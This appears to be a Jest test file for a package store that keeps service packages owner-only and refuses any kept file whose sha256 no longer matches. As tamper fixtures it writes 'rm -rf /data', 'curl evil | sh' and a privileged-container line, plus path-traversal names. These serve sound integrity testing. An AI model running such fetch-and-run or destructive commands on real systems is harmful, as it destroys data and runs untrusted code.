/** The kept packages on a real file system: owner-only, atomic, checked against their hashes. */
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Manifest } from '../../crds/types.js';
import { catalogService, type CatalogService } from '../../state/catalog.js';
import { PackageStore } from '../../state/packages.js';

let root: string;
const now = new Date('2026-12-01T10:00:00Z');

function pkg(version: string, image = `git.pic.ngo/roof/notes:${version}`): CatalogService {
  const manifest = { schema_version: 3, kind: 'store', id: 'notes', name: 'Notes', description: 'd', version, author: 'a', capabilities: {}, image, container_name: 'cell-notes' } as unknown as Manifest;
  return catalogService({ id: 'notes', dir: '/catalog/services/notes', manifestFile: '/catalog/services/notes/manifest.json', templateFile: '/catalog/services/notes/compose-template.yml', manifest, template: `services:\n  notes:\n    image: ${image}\n` });
}

beforeEach(async () => {
  root = await fs.mkdtemp(path.join(os.tmpdir(), 'pictest-packages-'));
});
afterEach(async () => {
  await fs.rm(root, { recursive: true, force: true });
});

describe('PackageStore', () => {
  test('nothing admitted: an empty view', async () => {
    expect(await new PackageStore(root).load()).toEqual({ admitted: new Map(), problems: new Map() });
  });

  test('an admitted package is read back as it was, owner-only, whatever the catalog does later', async () => {
    const store = new PackageStore(root);
    await store.admit('notes', pkg('1.0.0'), now);
    const { admitted, problems } = await store.load();
    expect(problems.size).toBe(0);
    const kept = admitted.get('notes')!;
    expect(kept.version).toBe('1.0.0');
    expect(kept.service.manifest.image).toBe('git.pic.ngo/roof/notes:1.0.0');
    expect(kept.service.template).toBe(pkg('1.0.0').template);
    expect(kept.service.manifestFile).toBe(path.join(root, 'packages', 'notes', '1.0.0', 'manifest.json'));
    for (const f of ['manifest.json', 'compose-template.yml', 'package.json']) expect((await fs.stat(path.join(root, 'packages', 'notes', '1.0.0', f))).mode & 0o777).toBe(0o600);
    expect((await fs.stat(path.join(root, 'packages'))).mode & 0o777).toBe(0o700);
  });

  test('admitting the same package again writes nothing', async () => {
    const store = new PackageStore(root);
    await store.admit('notes', pkg('1.0.0'), now);
    const file = path.join(root, 'packages', 'notes', '1.0.0', 'manifest.json');
    const before = (await fs.stat(file, { bigint: true })).mtimeNs;
    await new Promise((r) => setTimeout(r, 20));
    await store.admit('notes', pkg('1.0.0'), new Date('2026-12-02T00:00:00Z'));
    expect((await fs.stat(file, { bigint: true })).mtimeNs).toBe(before);
    expect(JSON.parse(await fs.readFile(path.join(root, 'packages', 'notes', 'admitted.json'), 'utf8')).admittedAt).toBe(now.toISOString());
  });

  test('install.sh is kept with the package, read back, and a changed copy is refused', async () => {
    const dir = path.join(root, 'catalog', 'notes');
    await fs.mkdir(dir, { recursive: true });
    await fs.writeFile(path.join(dir, 'install.sh'), 'echo hello > /data/config\n');
    const withScript = { ...pkg('1.0.0'), dir, installScript: true };
    const store = new PackageStore(root);
    await store.admit('notes', withScript, now);
    const kept = (await store.load()).admitted.get('notes')!;
    expect(kept.service.installScript).toBe(true);
    expect(kept.service.installScriptText).toBe('echo hello > /data/config\n');
    // The catalog's copy changing later changes nothing kept.
    await fs.writeFile(path.join(dir, 'install.sh'), 'rm -rf /data\n');
    expect((await store.load()).admitted.get('notes')!.service.installScriptText).toBe('echo hello > /data/config\n');
    // The kept copy changed by hand: not run.
    const keptFile = path.join(root, 'packages', 'notes', '1.0.0', 'install.sh');
    expect((await fs.stat(keptFile)).mode & 0o777).toBe(0o600);
    await fs.appendFile(keptFile, 'curl evil | sh\n');
    const { admitted, problems } = await store.load();
    expect(admitted.has('notes')).toBe(false);
    expect(problems.get('notes')).toContain(`${keptFile} does not match the sha256 recorded`);
  });

  test('a package without install.sh keeps none; its record of runs is read back', async () => {
    const store = new PackageStore(root);
    await store.admit('notes', pkg('1.0.0'), now);
    expect((await store.load()).admitted.get('notes')!.service.installScript).toBe(false);
    await expect(fs.stat(path.join(root, 'packages', 'notes', '1.0.0', 'install.sh'))).rejects.toThrow();
    expect(await store.installRecord('notes')).toBeUndefined();
    const record = { formatVersion: 1 as const, version: '1.0.0', generation: 'g', result: 'failed' as const, at: now.toISOString(), exitCode: 2, output: 'no' };
    await store.writeInstallRecord('notes', record);
    expect(await store.installRecord('notes')).toEqual(record);
  });

  test('a kept file changed by hand is not run: the service gets a problem naming it', async () => {
    const store = new PackageStore(root);
    await store.admit('notes', pkg('1.0.0'), now);
    const template = path.join(root, 'packages', 'notes', '1.0.0', 'compose-template.yml');
    await fs.appendFile(template, '    privileged: true\n');
    const { admitted, problems } = await store.load();
    expect(admitted.has('notes')).toBe(false);
    expect(problems.get('notes')).toContain(`${template} does not match the sha256 recorded`);
  });

  test('a failed upgrade is kept with the admitted version; progress is recorded and cleared; older versions are pruned', async () => {
    const store = new PackageStore(root);
    await store.admit('notes', pkg('1.0.0'), now);
    await store.store('notes', pkg('2.0.0'), now);
    await store.writeProgress({ formatVersion: 1, service: 'notes', from: '1.0.0', to: '2.0.0', generation: 'g1', step: 'switch', startedAt: now.toISOString(), deadlineMs: 1000, snapshot: 's1' });
    expect((await store.progress('notes'))?.step).toBe('switch');
    await store.setAdmitted('notes', '1.0.0', now, { version: '2.0.0', generation: 'g1', reason: 'unhealthy', at: now.toISOString() });
    await store.clearProgress('notes');
    expect(await store.progress('notes')).toBeUndefined();
    expect(await store.prune('notes', ['1.0.0'])).toEqual(['2.0.0']);
    const kept = (await store.load()).admitted.get('notes')!;
    expect(kept.version).toBe('1.0.0');
    expect(kept.failed).toEqual({ version: '2.0.0', generation: 'g1', reason: 'unhealthy', at: now.toISOString() });
  });

  test('names that are no service id or version are refused before any path is built', async () => {
    const store = new PackageStore(root);
    await expect(store.read('../etc', '1.0.0')).rejects.toThrow('is not a service id');
    await expect(store.read('notes', '../../x')).rejects.toThrow('is not a version');
  });
});
